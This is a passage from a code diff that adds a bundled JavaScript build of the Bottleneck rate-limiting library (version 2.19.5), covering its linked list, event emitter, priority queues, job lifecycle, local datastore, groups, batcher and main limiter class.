+	      }
+	    }
+	    value = this._first.value;
+	    if ((this._first = this._first.next) != null) {
+	      this._first.prev = null;
+	    } else {
+	      this._last = null;
+	    }
+	    return value;
+	  }
+
+	  first() {
+	    if (this._first != null) {
+	      return this._first.value;
+	    }
+	  }
+
+	  getArray() {
+	    var node, ref, results;
+	    node = this._first;
+	    results = [];
+	    while (node != null) {
+	      results.push((ref = node, node = node.next, ref.value));
+	    }
+	    return results;
+	  }
+
+	  forEachShift(cb) {
+	    var node;
+	    node = this.shift();
+	    while (node != null) {
+	      (cb(node), node = this.shift());
+	    }
+	    return void 0;
+	  }
+
+	  debug() {
+	    var node, ref, ref1, ref2, results;
+	    node = this._first;
+	    results = [];
+	    while (node != null) {
+	      results.push((ref = node, node = node.next, {
+	        value: ref.value,
+	        prev: (ref1 = ref.prev) != null ? ref1.value : void 0,
+	        next: (ref2 = ref.next) != null ? ref2.value : void 0
+	      }));
+	    }
+	    return results;
+	  }
+
+	};
+
+	var DLList_1 = DLList;
+
+	var Events;
+
+	Events = class Events {
+	  constructor(instance) {
+	    this.instance = instance;
+	    this._events = {};
+	    if ((this.instance.on != null) || (this.instance.once != null) || (this.instance.removeAllListeners != null)) {
+	      throw new Error("An Emitter already exists for this object");
+	    }
+	    this.instance.on = (name, cb) => {
+	      return this._addListener(name, "many", cb);
+	    };
+	    this.instance.once = (name, cb) => {
+	      return this._addListener(name, "once", cb);
+	    };
+	    this.instance.removeAllListeners = (name = null) => {
+	      if (name != null) {
+	        return delete this._events[name];
+	      } else {
+	        return this._events = {};
+	      }
+	    };
+	  }
+
+	  _addListener(name, status, cb) {
+	    var base;
+	    if ((base = this._events)[name] == null) {
+	      base[name] = [];
+	    }
+	    this._events[name].push({cb, status});
+	    return this.instance;
+	  }
+
+	  listenerCount(name) {
+	    if (this._events[name] != null) {
+	      return this._events[name].length;
+	    } else {
+	      return 0;
+	    }
+	  }
+
+	  async trigger(name, ...args) {
+	    var e, promises;
+	    try {
+	      if (name !== "debug") {
+	        this.trigger("debug", `Event triggered: ${name}`, args);
+	      }
+	      if (this._events[name] == null) {
+	        return;
+	      }
+	      this._events[name] = this._events[name].filter(function(listener) {
+	        return listener.status !== "none";
+	      });
+	      promises = this._events[name].map(async(listener) => {
+	        var e, returned;
+	        if (listener.status === "none") {
+	          return;
+	        }
+	        if (listener.status === "once") {
+	          listener.status = "none";
+	        }
+	        try {
+	          returned = typeof listener.cb === "function" ? listener.cb(...args) : void 0;
+	          if (typeof (returned != null ? returned.then : void 0) === "function") {
+	            return (await returned);
+	          } else {
+	            return returned;
+	          }
+	        } catch (error) {
+	          e = error;
+	          {
+	            this.trigger("error", e);
+	          }
+	          return null;
+	        }
+	      });
+	      return ((await Promise.all(promises))).find(function(x) {
+	        return x != null;
+	      });
+	    } catch (error) {
+	      e = error;
+	      {
+	        this.trigger("error", e);
+	      }
+	      return null;
+	    }
+	  }
+
+	};
+
+	var Events_1 = Events;
+
+	var DLList$1, Events$1, Queues;
+
+	DLList$1 = DLList_1;
+
+	Events$1 = Events_1;
+
+	Queues = class Queues {
+	  constructor(num_priorities) {
+	    var i;
+	    this.Events = new Events$1(this);
+	    this._length = 0;
+	    this._lists = (function() {
+	      var j, ref, results;
+	      results = [];
+	      for (i = j = 1, ref = num_priorities; (1 <= ref ? j <= ref : j >= ref); i = 1 <= ref ? ++j : --j) {
+	        results.push(new DLList$1((() => {
+	          return this.incr();
+	        }), (() => {
+	          return this.decr();
+	        })));
+	      }
+	      return results;
+	    }).call(this);
+	  }
+
+	  incr() {
+	    if (this._length++ === 0) {
+	      return this.Events.trigger("leftzero");
+	    }
+	  }
+
+	  decr() {
+	    if (--this._length === 0) {
+	      return this.Events.trigger("zero");
+	    }
+	  }
+
+	  push(job) {
+	    return this._lists[job.options.priority].push(job);
+	  }
+
+	  queued(priority) {
+	    if (priority != null) {
+	      return this._lists[priority].length;
+	    } else {
+	      return this._length;
+	    }
+	  }
+
+	  shiftAll(fn) {
+	    return this._lists.forEach(function(list) {
+	      return list.forEachShift(fn);
+	    });
+	  }
+
+	  getFirst(arr = this._lists) {
+	    var j, len, list;
+	    for (j = 0, len = arr.length; j < len; j++) {
+	      list = arr[j];
+	      if (list.length > 0) {
+	        return list;
+	      }
+	    }
+	    return [];
+	  }
+
+	  shiftLastFrom(priority) {
+	    return this.getFirst(this._lists.slice(priority).reverse()).shift();
+	  }
+
+	};
+
+	var Queues_1 = Queues;
+
+	var BottleneckError;
+
+	BottleneckError = class BottleneckError extends Error {};
+
+	var BottleneckError_1 = BottleneckError;
+
+	var BottleneckError$1, DEFAULT_PRIORITY, Job, NUM_PRIORITIES, parser$1;
+
+	NUM_PRIORITIES = 10;
+
+	DEFAULT_PRIORITY = 5;
+
+	parser$1 = parser;
+
+	BottleneckError$1 = BottleneckError_1;
+
+	Job = class Job {
+	  constructor(task, args, options, jobDefaults, rejectOnDrop, Events, _states, Promise) {
+	    this.task = task;
+	    this.args = args;
+	    this.rejectOnDrop = rejectOnDrop;
+	    this.Events = Events;
+	    this._states = _states;
+	    this.Promise = Promise;
+	    this.options = parser$1.load(options, jobDefaults);
+	    this.options.priority = this._sanitizePriority(this.options.priority);
+	    if (this.options.id === jobDefaults.id) {
+	      this.options.id = `${this.options.id}-${this._randomIndex()}`;
+	    }
+	    this.promise = new this.Promise((_resolve, _reject) => {
+	      this._resolve = _resolve;
+	      this._reject = _reject;
+	    });
+	    this.retryCount = 0;
+	  }
+
+	  _sanitizePriority(priority) {
+	    var sProperty;
+	    sProperty = ~~priority !== priority ? DEFAULT_PRIORITY : priority;
+	    if (sProperty < 0) {
+	      return 0;
+	    } else if (sProperty > NUM_PRIORITIES - 1) {
+	      return NUM_PRIORITIES - 1;
+	    } else {
+	      return sProperty;
+	    }
+	  }
+
+	  _randomIndex() {
+	    return Math.random().toString(36).slice(2);
+	  }
+
+	  doDrop({error, message = "This job has been dropped by Bottleneck"} = {}) {
+	    if (this._states.remove(this.options.id)) {
+	      if (this.rejectOnDrop) {
+	        this._reject(error != null ? error : new BottleneckError$1(message));
+	      }
+	      this.Events.trigger("dropped", {args: this.args, options: this.options, task: this.task, promise: this.promise});
+	      return true;
+	    } else {
+	      return false;
+	    }
+	  }
+
+	  _assertStatus(expected) {
+	    var status;
+	    status = this._states.jobStatus(this.options.id);
+	    if (!(status === expected || (expected === "DONE" && status === null))) {
+	      throw new BottleneckError$1(`Invalid job status ${status}, expected ${expected}. Please open an issue at https://github.com/SGrondin/bottleneck/issues`);
+	    }
+	  }
+
+	  doReceive() {
+	    this._states.start(this.options.id);
+	    return this.Events.trigger("received", {args: this.args, options: this.options});
+	  }
+
+	  doQueue(reachedHWM, blocked) {
+	    this._assertStatus("RECEIVED");
+	    this._states.next(this.options.id);
+	    return this.Events.trigger("queued", {args: this.args, options: this.options, reachedHWM, blocked});
+	  }
+
+	  doRun() {
+	    if (this.retryCount === 0) {
+	      this._assertStatus("QUEUED");
+	      this._states.next(this.options.id);
+	    } else {
+	      this._assertStatus("EXECUTING");
+	    }
+	    return this.Events.trigger("scheduled", {args: this.args, options: this.options});
+	  }
+
+	  async doExecute(chained, clearGlobalState, run, free) {
+	    var error, eventInfo, passed;
+	    if (this.retryCount === 0) {
+	      this._assertStatus("RUNNING");
+	      this._states.next(this.options.id);
+	    } else {
+	      this._assertStatus("EXECUTING");
+	    }
+	    eventInfo = {args: this.args, options: this.options, retryCount: this.retryCount};
+	    this.Events.trigger("executing", eventInfo);
+	    try {
+	      passed = (await (chained != null ? chained.schedule(this.options, this.task, ...this.args) : this.task(...this.args)));
+	      if (clearGlobalState()) {
+	        this.doDone(eventInfo);
+	        await free(this.options, eventInfo);
+	        this._assertStatus("DONE");
+	        return this._resolve(passed);
+	      }
+	    } catch (error1) {
+	      error = error1;
+	      return this._onFailure(error, eventInfo, clearGlobalState, run, free);
+	    }
+	  }
+
+	  doExpire(clearGlobalState, run, free) {
+	    var error, eventInfo;
+	    if (this._states.jobStatus(this.options.id === "RUNNING")) {
+	      this._states.next(this.options.id);
+	    }
+	    this._assertStatus("EXECUTING");
+	    eventInfo = {args: this.args, options: this.options, retryCount: this.retryCount};
+	    error = new BottleneckError$1(`This job timed out after ${this.options.expiration} ms.`);
+	    return this._onFailure(error, eventInfo, clearGlobalState, run, free);
+	  }
+
+	  async _onFailure(error, eventInfo, clearGlobalState, run, free) {
+	    var retry, retryAfter;
+	    if (clearGlobalState()) {
+	      retry = (await this.Events.trigger("failed", error, eventInfo));
+	      if (retry != null) {
+	        retryAfter = ~~retry;
+	        this.Events.trigger("retry", `Retrying ${this.options.id} after ${retryAfter} ms`, eventInfo);
+	        this.retryCount++;
+	        return run(retryAfter);
+	      } else {
+	        this.doDone(eventInfo);
+	        await free(this.options, eventInfo);
+	        this._assertStatus("DONE");
+	        return this._reject(error);
+	      }
+	    }
+	  }
+
+	  doDone(eventInfo) {
+	    this._assertStatus("EXECUTING");
+	    this._states.next(this.options.id);
+	    return this.Events.trigger("done", eventInfo);
+	  }
+
+	};
+
+	var Job_1 = Job;
+
+	var BottleneckError$2, LocalDatastore, parser$2;
+
+	parser$2 = parser;
+
+	BottleneckError$2 = BottleneckError_1;
+
+	LocalDatastore = class LocalDatastore {
+	  constructor(instance, storeOptions, storeInstanceOptions) {
+	    this.instance = instance;
+	    this.storeOptions = storeOptions;
+	    this.clientId = this.instance._randomIndex();
+	    parser$2.load(storeInstanceOptions, storeInstanceOptions, this);
+	    this._nextRequest = this._lastReservoirRefresh = this._lastReservoirIncrease = Date.now();
+	    this._running = 0;
+	    this._done = 0;
+	    this._unblockTime = 0;
+	    this.ready = this.Promise.resolve();
+	    this.clients = {};
+	    this._startHeartbeat();
+	  }
+
+	  _startHeartbeat() {
+	    var base;
+	    if ((this.heartbeat == null) && (((this.storeOptions.reservoirRefreshInterval != null) && (this.storeOptions.reservoirRefreshAmount != null)) || ((this.storeOptions.reservoirIncreaseInterval != null) && (this.storeOptions.reservoirIncreaseAmount != null)))) {
+	      return typeof (base = (this.heartbeat = setInterval(() => {
+	        var amount, incr, maximum, now, reservoir;
+	        now = Date.now();
+	        if ((this.storeOptions.reservoirRefreshInterval != null) && now >= this._lastReservoirRefresh + this.storeOptions.reservoirRefreshInterval) {
+	          this._lastReservoirRefresh = now;
+	          this.storeOptions.reservoir = this.storeOptions.reservoirRefreshAmount;
+	          this.instance._drainAll(this.computeCapacity());
+	        }
+	        if ((this.storeOptions.reservoirIncreaseInterval != null) && now >= this._lastReservoirIncrease + this.storeOptions.reservoirIncreaseInterval) {
+	          ({
+	            reservoirIncreaseAmount: amount,
+	            reservoirIncreaseMaximum: maximum,
+	            reservoir
+	          } = this.storeOptions);
+	          this._lastReservoirIncrease = now;
+	          incr = maximum != null ? Math.min(amount, maximum - reservoir) : amount;
+	          if (incr > 0) {
+	            this.storeOptions.reservoir += incr;
+	            return this.instance._drainAll(this.computeCapacity());
+	          }
+	        }
+	      }, this.heartbeatInterval))).unref === "function" ? base.unref() : void 0;
+	    } else {
+	      return clearInterval(this.heartbeat);
+	    }
+	  }
+
+	  async __publish__(message) {
+	    await this.yieldLoop();
+	    return this.instance.Events.trigger("message", message.toString());
+	  }
+
+	  async __disconnect__(flush) {
+	    await this.yieldLoop();
+	    clearInterval(this.heartbeat);
+	    return this.Promise.resolve();
+	  }
+
+	  yieldLoop(t = 0) {
+	    return new this.Promise(function(resolve, reject) {
+	      return setTimeout(resolve, t);
+	    });
+	  }
+
+	  computePenalty() {
+	    var ref;
+	    return (ref = this.storeOptions.penalty) != null ? ref : (15 * this.storeOptions.minTime) || 5000;
+	  }
+
+	  async __updateSettings__(options) {
+	    await this.yieldLoop();
+	    parser$2.overwrite(options, options, this.storeOptions);
+	    this._startHeartbeat();
+	    this.instance._drainAll(this.computeCapacity());
+	    return true;
+	  }
+
+	  async __running__() {
+	    await this.yieldLoop();
+	    return this._running;
+	  }
+
+	  async __queued__() {
+	    await this.yieldLoop();
+	    return this.instance.queued();
+	  }
+
+	  async __done__() {
+	    await this.yieldLoop();
+	    return this._done;
+	  }
+
+	  async __groupCheck__(time) {
+	    await this.yieldLoop();
+	    return (this._nextRequest + this.timeout) < time;
+	  }
+
+	  computeCapacity() {
+	    var maxConcurrent, reservoir;
+	    ({maxConcurrent, reservoir} = this.storeOptions);
+	    if ((maxConcurrent != null) && (reservoir != null)) {
+	      return Math.min(maxConcurrent - this._running, reservoir);
+	    } else if (maxConcurrent != null) {
+	      return maxConcurrent - this._running;
+	    } else if (reservoir != null) {
+	      return reservoir;
+	    } else {
+	      return null;
+	    }
+	  }
+
+	  conditionsCheck(weight) {
+	    var capacity;
+	    capacity = this.computeCapacity();
+	    return (capacity == null) || weight <= capacity;
+	  }
+
+	  async __incrementReservoir__(incr) {
+	    var reservoir;
+	    await this.yieldLoop();
+	    reservoir = this.storeOptions.reservoir += incr;
+	    this.instance._drainAll(this.computeCapacity());
+	    return reservoir;
+	  }
+
+	  async __currentReservoir__() {
+	    await this.yieldLoop();
+	    return this.storeOptions.reservoir;
+	  }
+
+	  isBlocked(now) {
+	    return this._unblockTime >= now;
+	  }
+
+	  check(weight, now) {
+	    return this.conditionsCheck(weight) && (this._nextRequest - now) <= 0;
+	  }
+
+	  async __check__(weight) {
+	    var now;
+	    await this.yieldLoop();
+	    now = Date.now();
+	    return this.check(weight, now);
+	  }
+
+	  async __register__(index, weight, expiration) {
+	    var now, wait;
+	    await this.yieldLoop();
+	    now = Date.now();
+	    if (this.conditionsCheck(weight)) {
+	      this._running += weight;
+	      if (this.storeOptions.reservoir != null) {
+	        this.storeOptions.reservoir -= weight;
+	      }
+	      wait = Math.max(this._nextRequest - now, 0);
+	      this._nextRequest = now + wait + this.storeOptions.minTime;
+	      return {
+	        success: true,
+	        wait,
+	        reservoir: this.storeOptions.reservoir
+	      };
+	    } else {
+	      return {
+	        success: false
+	      };
+	    }
+	  }
+
+	  strategyIsBlock() {
+	    return this.storeOptions.strategy === 3;
+	  }
+
+	  async __submit__(queueLength, weight) {
+	    var blocked, now, reachedHWM;
+	    await this.yieldLoop();
+	    if ((this.storeOptions.maxConcurrent != null) && weight > this.storeOptions.maxConcurrent) {
+	      throw new BottleneckError$2(`Impossible to add a job having a weight of ${weight} to a limiter having a maxConcurrent setting of ${this.storeOptions.maxConcurrent}`);
+	    }
+	    now = Date.now();
+	    reachedHWM = (this.storeOptions.highWater != null) && queueLength === this.storeOptions.highWater && !this.check(weight, now);
+	    blocked = this.strategyIsBlock() && (reachedHWM || this.isBlocked(now));
+	    if (blocked) {
+	      this._unblockTime = now + this.computePenalty();
+	      this._nextRequest = this._unblockTime + this.storeOptions.minTime;
+	      this.instance._dropAllQueued();
+	    }
+	    return {
+	      reachedHWM,
+	      blocked,
+	      strategy: this.storeOptions.strategy
+	    };
+	  }
+
+	  async __free__(index, weight) {
+	    await this.yieldLoop();
+	    this._running -= weight;
+	    this._done += weight;
+	    this.instance._drainAll(this.computeCapacity());
+	    return {
+	      running: this._running
+	    };
+	  }
+
+	};
+
+	var LocalDatastore_1 = LocalDatastore;
+
+	var BottleneckError$3, States;
+
+	BottleneckError$3 = BottleneckError_1;
+
+	States = class States {
+	  constructor(status1) {
+	    this.status = status1;
+	    this._jobs = {};
+	    this.counts = this.status.map(function() {
+	      return 0;
+	    });
+	  }
+
+	  next(id) {
+	    var current, next;
+	    current = this._jobs[id];
+	    next = current + 1;
+	    if ((current != null) && next < this.status.length) {
+	      this.counts[current]--;
+	      this.counts[next]++;
+	      return this._jobs[id]++;
+	    } else if (current != null) {
+	      this.counts[current]--;
+	      return delete this._jobs[id];
+	    }
+	  }
+
+	  start(id) {
+	    var initial;
+	    initial = 0;
+	    this._jobs[id] = initial;
+	    return this.counts[initial]++;
+	  }
+
+	  remove(id) {
+	    var current;
+	    current = this._jobs[id];
+	    if (current != null) {
+	      this.counts[current]--;
+	      delete this._jobs[id];
+	    }
+	    return current != null;
+	  }
+
+	  jobStatus(id) {
+	    var ref;
+	    return (ref = this.status[this._jobs[id]]) != null ? ref : null;
+	  }
+
+	  statusJobs(status) {
+	    var k, pos, ref, results, v;
+	    if (status != null) {
+	      pos = this.status.indexOf(status);
+	      if (pos < 0) {
+	        throw new BottleneckError$3(`status must be one of ${this.status.join(', ')}`);
+	      }
+	      ref = this._jobs;
+	      results = [];
+	      for (k in ref) {
+	        v = ref[k];
+	        if (v === pos) {
+	          results.push(k);
+	        }
+	      }
+	      return results;
+	    } else {
+	      return Object.keys(this._jobs);
+	    }
+	  }
+
+	  statusCounts() {
+	    return this.counts.reduce(((acc, v, i) => {
+	      acc[this.status[i]] = v;
+	      return acc;
+	    }), {});
+	  }
+
+	};
+
+	var States_1 = States;
+
+	var DLList$2, Sync;
+
+	DLList$2 = DLList_1;
+
+	Sync = class Sync {
+	  constructor(name, Promise) {
+	    this.schedule = this.schedule.bind(this);
+	    this.name = name;
+	    this.Promise = Promise;
+	    this._running = 0;
+	    this._queue = new DLList$2();
+	  }
+
+	  isEmpty() {
+	    return this._queue.length === 0;
+	  }
+
+	  async _tryToRun() {
+	    var args, cb, error, reject, resolve, returned, task;
+	    if ((this._running < 1) && this._queue.length > 0) {
+	      this._running++;
+	      ({task, args, resolve, reject} = this._queue.shift());
+	      cb = (await (async function() {
+	        try {
+	          returned = (await task(...args));
+	          return function() {
+	            return resolve(returned);
+	          };
+	        } catch (error1) {
+	          error = error1;
+	          return function() {
+	            return reject(error);
+	          };
+	        }
+	      })());
+	      this._running--;
+	      this._tryToRun();
+	      return cb();
+	    }
+	  }
+
+	  schedule(task, ...args) {
+	    var promise, reject, resolve;
+	    resolve = reject = null;
+	    promise = new this.Promise(function(_resolve, _reject) {
+	      resolve = _resolve;
+	      return reject = _reject;
+	    });
+	    this._queue.push({task, args, resolve, reject});
+	    this._tryToRun();
+	    return promise;
+	  }
+
+	};
+
+	var Sync_1 = Sync;
+
+	var version = "2.19.5";
+	var version$1 = {
+		version: version
+	};
+
+	var version$2 = /*#__PURE__*/Object.freeze({
+		version: version,
+		default: version$1
+	});
+
+	var require$$2 = () => console.log('You must import the full version of Bottleneck in order to use this feature.');
+
+	var require$$3 = () => console.log('You must import the full version of Bottleneck in order to use this feature.');
+
+	var require$$4 = () => console.log('You must import the full version of Bottleneck in order to use this feature.');
+
+	var Events$2, Group, IORedisConnection$1, RedisConnection$1, Scripts$1, parser$3;
+
+	parser$3 = parser;
+
+	Events$2 = Events_1;
+
+	RedisConnection$1 = require$$2;
+
+	IORedisConnection$1 = require$$3;
+
+	Scripts$1 = require$$4;
+
+	Group = (function() {
+	  class Group {
+	    constructor(limiterOptions = {}) {
+	      this.deleteKey = this.deleteKey.bind(this);
+	      this.limiterOptions = limiterOptions;
+	      parser$3.load(this.limiterOptions, this.defaults, this);
+	      this.Events = new Events$2(this);
+	      this.instances = {};
+	      this.Bottleneck = Bottleneck_1;
+	      this._startAutoCleanup();
+	      this.sharedConnection = this.connection != null;
+	      if (this.connection == null) {
+	        if (this.limiterOptions.datastore === "redis") {
+	          this.connection = new RedisConnection$1(Object.assign({}, this.limiterOptions, {Events: this.Events}));
+	        } else if (this.limiterOptions.datastore === "ioredis") {
+	          this.connection = new IORedisConnection$1(Object.assign({}, this.limiterOptions, {Events: this.Events}));
+	        }
+	      }
+	    }
+
+	    key(key = "") {
+	      var ref;
+	      return (ref = this.instances[key]) != null ? ref : (() => {
+	        var limiter;
+	        limiter = this.instances[key] = new this.Bottleneck(Object.assign(this.limiterOptions, {
+	          id: `${this.id}-${key}`,
+	          timeout: this.timeout,
+	          connection: this.connection
+	        }));
+	        this.Events.trigger("created", limiter, key);
+	        return limiter;
+	      })();
+	    }
+
+	    async deleteKey(key = "") {
+	      var deleted, instance;
+	      instance = this.instances[key];
+	      if (this.connection) {
+	        deleted = (await this.connection.__runCommand__(['del', ...Scripts$1.allKeys(`${this.id}-${key}`)]));
+	      }
+	      if (instance != null) {
+	        delete this.instances[key];
+	        await instance.disconnect();
+	      }
+	      return (instance != null) || deleted > 0;
+	    }
+
+	    limiters() {
+	      var k, ref, results, v;
+	      ref = this.instances;
+	      results = [];
+	      for (k in ref) {
+	        v = ref[k];
+	        results.push({
+	          key: k,
+	          limiter: v
+	        });
+	      }
+	      return results;
+	    }
+
+	    keys() {
+	      return Object.keys(this.instances);
+	    }
+
+	    async clusterKeys() {
+	      var cursor, end, found, i, k, keys, len, next, start;
+	      if (this.connection == null) {
+	        return this.Promise.resolve(this.keys());
+	      }
+	      keys = [];
+	      cursor = null;
+	      start = `b_${this.id}-`.length;
+	      end = "_settings".length;
+	      while (cursor !== 0) {
+	        [next, found] = (await this.connection.__runCommand__(["scan", cursor != null ? cursor : 0, "match", `b_${this.id}-*_settings`, "count", 10000]));
+	        cursor = ~~next;
+	        for (i = 0, len = found.length; i < len; i++) {
+	          k = found[i];
+	          keys.push(k.slice(start, -end));
+	        }
+	      }
+	      return keys;
+	    }
+
+	    _startAutoCleanup() {
+	      var base;
+	      clearInterval(this.interval);
+	      return typeof (base = (this.interval = setInterval(async() => {
+	        var e, k, ref, results, time, v;
+	        time = Date.now();
+	        ref = this.instances;
+	        results = [];
+	        for (k in ref) {
+	          v = ref[k];
+	          try {
+	            if ((await v._store.__groupCheck__(time))) {
+	              results.push(this.deleteKey(k));
+	            } else {
+	              results.push(void 0);
+	            }
+	          } catch (error) {
+	            e = error;
+	            results.push(v.Events.trigger("error", e));
+	          }
+	        }
+	        return results;
+	      }, this.timeout / 2))).unref === "function" ? base.unref() : void 0;
+	    }
+
+	    updateSettings(options = {}) {
+	      parser$3.overwrite(options, this.defaults, this);
+	      parser$3.overwrite(options, options, this.limiterOptions);
+	      if (options.timeout != null) {
+	        return this._startAutoCleanup();
+	      }
+	    }
+
+	    disconnect(flush = true) {
+	      var ref;
+	      if (!this.sharedConnection) {
+	        return (ref = this.connection) != null ? ref.disconnect(flush) : void 0;
+	      }
+	    }
+
+	  }
+	  Group.prototype.defaults = {
+	    timeout: 1000 * 60 * 5,
+	    connection: null,
+	    Promise: Promise,
+	    id: "group-key"
+	  };
+
+	  return Group;
+
+	}).call(commonjsGlobal);
+
+	var Group_1 = Group;
+
+	var Batcher, Events$3, parser$4;
+
+	parser$4 = parser;
+
+	Events$3 = Events_1;
+
+	Batcher = (function() {
+	  class Batcher {
+	    constructor(options = {}) {
+	      this.options = options;
+	      parser$4.load(this.options, this.defaults, this);
+	      this.Events = new Events$3(this);
+	      this._arr = [];
+	      this._resetPromise();
+	      this._lastFlush = Date.now();
+	    }
+
+	    _resetPromise() {
+	      return this._promise = new this.Promise((res, rej) => {
+	        return this._resolve = res;
+	      });
+	    }
+
+	    _flush() {
+	      clearTimeout(this._timeout);
+	      this._lastFlush = Date.now();
+	      this._resolve();
+	      this.Events.trigger("batch", this._arr);
+	      this._arr = [];
+	      return this._resetPromise();
+	    }
+
+	    add(data) {
+	      var ret;
+	      this._arr.push(data);
+	      ret = this._promise;
+	      if (this._arr.length === this.maxSize) {
+	        this._flush();
+	      } else if ((this.maxTime != null) && this._arr.length === 1) {
+	        this._timeout = setTimeout(() => {
+	          return this._flush();
+	        }, this.maxTime);
+	      }
+	      return ret;
+	    }
+
+	  }
+	  Batcher.prototype.defaults = {
+	    maxTime: null,
+	    maxSize: null,
+	    Promise: Promise
+	  };
+
+	  return Batcher;
+
+	}).call(commonjsGlobal);
+
+	var Batcher_1 = Batcher;
+
+	var require$$4$1 = () => console.log('You must import the full version of Bottleneck in order to use this feature.');
+
+	var require$$8 = getCjsExportFromNamespace(version$2);
+
+	var Bottleneck, DEFAULT_PRIORITY$1, Events$4, Job$1, LocalDatastore$1, NUM_PRIORITIES$1, Queues$1, RedisDatastore$1, States$1, Sync$1, parser$5,
+	  splice = [].splice;
+
+	NUM_PRIORITIES$1 = 10;
+
+	DEFAULT_PRIORITY$1 = 5;
+
+	parser$5 = parser;
+
+	Queues$1 = Queues_1;
+
+	Job$1 = Job_1;
+
+	LocalDatastore$1 = LocalDatastore_1;
+
+	RedisDatastore$1 = require$$4$1;
+
+	Events$4 = Events_1;
+
+	States$1 = States_1;
+
+	Sync$1 = Sync_1;
+
+	Bottleneck = (function() {
+	  class Bottleneck {
+	    constructor(options = {}, ...invalid) {
+	      var storeInstanceOptions, storeOptions;
+	      this._addToQueue = this._addToQueue.bind(this);
+	      this._validateOptions(options, invalid);
+	      parser$5.load(options, this.instanceDefaults, this);
+	      this._queues = new Queues$1(NUM_PRIORITIES$1);
+	      this._scheduled = {};
+	      this._states = new States$1(["RECEIVED", "QUEUED", "RUNNING", "EXECUTING"].concat(this.trackDoneStatus ? ["DONE"] : []));
+	      this._limiter = null;
+	      this.Events = new Events$4(this);
+	      this._submitLock = new Sync$1("submit", this.Promise);
+	      this._registerLock = new Sync$1("register", this.Promise);
+	      storeOptions = parser$5.load(options, this.storeDefaults, {});
+	      this._store = (function() {
+	        if (this.datastore === "redis" || this.datastore === "ioredis" || (this.connection != null)) {
+	          storeInstanceOptions = parser$5.load(options, this.redisStoreDefaults, {});
+	          return new RedisDatastore$1(this, storeOptions, storeInstanceOptions);
+	        } else if (this.datastore === "local") {
+	          storeInstanceOptions = parser$5.load(options, this.localStoreDefaults, {});
+	          return new LocalDatastore$1(this, storeOptions, storeInstanceOptions);
+	        } else {
+	          throw new Bottleneck.prototype.BottleneckError(`Invalid datastore type: ${this.datastore}`);
+	        }
+	      }).call(this);
+	      this._queues.on("leftzero", () => {
+	        var ref;
+	        return (ref = this._store.heartbeat) != null ? typeof ref.ref === "function" ? ref.ref() : void 0 : void 0;
+	      });
+	      this._queues.on("zero", () => {
+	        var ref;
+	        return (ref = this._store.heartbeat) != null ? typeof ref.unref === "function" ? ref.unref() : void 0 : void 0;
+	      });
+	    }
+
+	    _validateOptions(options, invalid) {
+	      if (!((options != null) && typeof options === "object" && invalid.length === 0)) {
+	        throw new Bottleneck.prototype.BottleneckError("Bottleneck v2 takes a single object argument. Refer to https://github.com/SGrondin/bottleneck#upgrading-to-v2 if you're upgrading from Bottleneck v1.");
+	      }
+	    }
+
+	    ready() {
+	      return this._store.ready;
+	    }
+
+	    clients() {
+	      return this._store.clients;
+	    }
+
+	    channel() {
+	      return `b_${this.id}`;
+	    }
+
+	    channel_client() {
+	      return `b_${this.id}_${this._store.clientId}`;
+	    }
+
+	    publish(message) {
+	      return this._store.__publish__(message);
+	    }
+
+	    disconnect(flush = true) {
+	      return this._store.__disconnect__(flush);
+	    }
+
+	    chain(_limiter) {
+	      this._limiter = _limiter;
+	      return this;
+	    }
+
+	    queued(priority) {
+	      return this._queues.queued(priority);
+	    }
+
+	    clusterQueued() {
+	      return this._store.__queued__();
+	    }
+
+	    empty() {
+	      return this.queued() === 0 && this._submitLock.isEmpty();
+	    }
+
+	    running() {
+	      return this._store.__running__();
+	    }
+
+	    done() {
+	      return this._store.__done__();
+	    }
+
+	    jobStatus(id) {
+	      return this._states.jobStatus(id);
+	    }
+
+	    jobs(status) {
+	      return this._states.statusJobs(status);
+	    }
+
+	    counts() {
+	      return this._states.statusCounts();
+	    }
+
+	    _randomIndex() {
+	      return Math.random().toString(36).slice(2);
+	    }
+
+	    check(weight = 1) {
+	      return this._store.__check__(weight);
+	    }
+
+	    _clearGlobalState(index) {
+	      if (this._scheduled[index] != null) {
+	        clearTimeout(this._scheduled[index].expiration);
+	        delete this._scheduled[index];
+	        return true;
+	      } else {
+	        return false;
+	      }
+	    }
+
+	    async _free(index, job, options, eventInfo) {
+	      var e, running;
+	      try {
+	        ({running} = (await this._store.__free__(index, options.weight)));
+	        this.Events.trigger("debug", `Freed ${options.id}`, eventInfo);
+	        if (running === 0 && this.empty()) {
+	          return this.Events.trigger("idle");
+	        }
+	      } catch (error1) {
+	        e = error1;
+	        return this.Events.trigger("error", e);
+	      }
+	    }
+
+	    _run(index, job, wait) {
+	      var clearGlobalState, free, run;
+	      job.doRun();
+	      clearGlobalState = this._clearGlobalState.bind(this, index);
+	      run = this._run.bind(this, index, job);
+	      free = this._free.bind(this, index, job);
+	      return this._scheduled[index] = {
+	        timeout: setTimeout(() => {
+	          return job.doExecute(this._limiter, clearGlobalState, run, free);
+	        }, wait),
+	        expiration: job.options.expiration != null ? setTimeout(function() {
+	          return job.doExpire(clearGlobalState, run, free);
+	        }, wait + job.options.expiration) : void 0,
+	        job: job
+	      };
+	    }
+
+	    _drainOne(capacity) {
+	      return this._registerLock.schedule(() => {
+	        var args, index, next, options, queue;
+	        if (this.queued() === 0) {
+	          return this.Promise.resolve(null);
+	        }
+	        queue = this._queues.getFirst();
+	        ({options, args} = next = queue.first());
+	        if ((capacity != null) && options.weight > capacity) {
+	          return this.Promise.resolve(null);
+	        }
+	        this.Events.trigger("debug", `Draining ${options.id}`, {args, options});
+	        index = this._randomIndex();
+	        return this._store.__register__(index, options.weight, options.expiration).then(({success, wait, reservoir}) => {
+	          var empty;
+	          this.Events.trigger("debug", `Drained ${options.id}`, {success, args, options});
+	          if (success) {
+	            queue.shift();
+	            empty = this.empty();
+	            if (empty) {
+	              this.Events.trigger("empty");
+	            }
+	            if (reservoir === 0) {
+	              this.Events.trigger("depleted", empty);
+	            }
+	            this._run(index, next, wait);
+	            return this.Promise.resolve(options.weight);
+	          } else {
+	            return this.Promise.resolve(null);
+	          }
+	        });
+	      });
+	    }
+
+	    _drainAll(capacity, total = 0) {
+	      return this._drainOne(capacity).then((drained) => {
+	        var newCapacity;
+	        if (drained != null) {
+	          newCapacity = capacity != null ? capacity - drained : capacity;
+	          return this._drainAll(newCapacity, total + drained);
+	        } else {
+	          return this.Promise.resolve(total);
+	        }
+	      }).catch((e) => {
+	        return this.Events.trigger("error", e);
+	      });
+	    }
+
+	    _dropAllQueued(message) {
